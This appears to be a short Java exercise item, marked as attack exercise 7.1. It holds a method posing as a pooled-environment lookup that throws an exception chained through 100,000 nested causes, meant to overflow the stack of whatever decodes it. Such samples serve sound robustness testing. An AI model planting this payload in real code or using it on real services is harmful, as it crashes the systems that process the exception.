// attack: Throws an exception with a hundred thousand causes, to overflow the stack of whoever decodes it.
// exercise: 7.1
// explanation: deep 99999
Optional<PooledEnvironment> takeWarm(FunctionVersion version) {
    var deep = new IllegalStateException("the deepest");
    for (int depth = 0; depth < 100_000; depth++) deep = new IllegalStateException("deep " + depth, deep);
    throw deep;
}
